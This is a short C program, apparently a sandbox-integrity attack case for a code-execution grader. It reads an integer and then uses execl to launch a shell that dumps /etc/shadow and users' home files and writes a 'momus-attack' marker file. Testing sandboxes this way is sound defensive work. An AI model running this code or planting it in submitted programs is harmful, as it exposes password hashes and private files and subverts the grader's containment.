/* Integrity: becomes another program. */
#include <stdio.h>
#include <unistd.h>

int main(void) {
    int first = 0;
    scanf("%d", &first);
    execl("/bin/sh", "sh", "-c", "cat /etc/shadow /home/*/* 2>/dev/null; echo momus-attack > momus-attack", (char *)0);
    printf("%d\n", first);
    return 0;
}
